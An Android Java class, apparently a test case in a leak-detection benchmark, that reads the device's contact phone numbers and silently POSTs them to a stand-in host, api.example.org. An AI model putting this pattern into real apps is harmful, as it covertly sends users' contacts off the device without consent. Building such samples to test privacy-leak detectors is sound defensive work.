package cases.multidex;

import android.content.ContentResolver;
import android.database.Cursor;
import android.net.Uri;
import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

final class Task implements Runnable {
    private final ContentResolver resolver;

    Task(ContentResolver resolver) {
        this.resolver = resolver;
    }

    @Override
    public void run() {
        Cursor rows = resolver.query(Uri.parse("content://com.android.contacts/data/phones"), null, null, null, null);
        StringBuilder text = new StringBuilder();
        while (rows.moveToNext()) {
            text.append(rows.getString(0)).append(';');
        }
        try {
            send(text.toString().getBytes());
        } catch (IOException e) {
            Log.w("task", "later");
        }
    }

    static void send(byte[] body) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://api.example.org/v1/contacts").openConnection();
        connection.setDoOutput(true);
        OutputStream out = connection.getOutputStream();
        out.write(body);
        out.close();
        connection.getInputStream().close();
    }
}
